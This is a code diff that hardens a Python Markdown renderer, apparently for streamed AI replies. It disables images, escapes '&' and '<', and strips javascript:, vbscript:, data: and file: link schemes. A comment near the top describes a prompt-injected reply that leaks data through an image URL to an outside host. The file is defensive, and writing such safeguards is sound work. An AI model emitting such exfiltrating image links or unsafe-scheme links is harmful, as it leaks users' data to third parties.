@@ -36,7 +36,9 @@ __all__ = [
 
 FRAME_INTERVAL = 0.05  # at most 20 frames a second, whatever the token rate
 
-_md = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
+# Images are off: a reply steered by a prompt injection could otherwise make the page load
+# ``![](https://elsewhere/?data)``. An image's Markdown is shown as a link instead.
+_md = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"]).disable("image")
 
 
 def render_markdown(source: str) -> str:
@@ -114,18 +116,23 @@ def _block_starts(source: str) -> list[int]:
     ]
 
 
-_CODE_SPAN = re.compile(r"`+")
-_UNSAFE_LINK = re.compile(r"\]\(\s*<?\s*(?=(?:javascript|vbscript|data|file):)", re.IGNORECASE)
+_UNSAFE_LINK = re.compile(r"\]\(\s*(?=(?:javascript|vbscript|data|file):)", re.IGNORECASE)
+_UNSAFE_DEFINITION = re.compile(
+    r"^( {0,3}\[[^\]]*\]:\s*)(?=(?:javascript|vbscript|data|file):)", re.IGNORECASE | re.MULTILINE
+)
 
 
 def safe_markdown_source(text: str) -> str:
     """``text`` as Markdown that no renderer turns into live HTML.
 
-    Every ``<`` outside code blocks and code spans becomes ``&lt;`` (which renders as ``<``), and
-    links to ``javascript:``, ``vbscript:``, ``data:`` and ``file:`` lose their scheme. Code is
-    left exactly as it is, since no renderer reads HTML there.
+    Outside fenced and indented code blocks, every ``&`` becomes ``&amp;`` and every ``<``
+    ``&lt;`` (they render as themselves, and no tag or entity-spelled link scheme can form), and
+    links and link definitions to ``javascript:``, ``vbscript:``, ``data:`` and ``file:`` lose
+    their scheme. Code blocks are kept exactly. Inline code spans are escaped too (a renderer
+    shows ``&lt;`` there as typed): telling spans apart safely would take a full parser, and the
+    notebook shows the ``text/html`` rendering first anyway.
     """
-    if "<" not in text and "](" not in text:
+    if not any(mark in text for mark in "<&]"):
         return text
     lines = text.splitlines(keepends=True)
     in_code = [False] * len(lines)
@@ -149,28 +156,9 @@ def safe_markdown_source(text: str) -> str:
 
 
 def _escape_prose(text: str) -> str:
-    """Escape ``<`` and unsafe links outside code spans (CommonMark 6.1: a span is a run of n
-    backticks closed by the next run of exactly n)."""
-    out: list[str] = []
-    at = 0
-    while True:
-        opening = _CODE_SPAN.search(text, at)
-        if opening is None:
-            out.append(_escape_plain(text[at:]))
-            return "".join(out)
-        out.append(_escape_plain(text[at : opening.start()]))
-        run = opening.group()
-        closing = re.compile(rf"(?<!`){run}(?!`)").search(text, opening.end())
-        if closing is None:  # a lone run is literal text
-            out.append(run)
-            at = opening.end()
-        else:
-            out.append(text[opening.start() : closing.end()])
-            at = closing.end()
-
-
-def _escape_plain(text: str) -> str:
-    return _UNSAFE_LINK.sub("](unsafe-", text.replace("<", "&lt;"))
+    text = text.replace("&", "&amp;").replace("<", "&lt;")
+    text = _UNSAFE_LINK.sub("](unsafe-", text)
+    return _UNSAFE_DEFINITION.sub(r"\1unsafe-", text)
 
 
 def format_status(
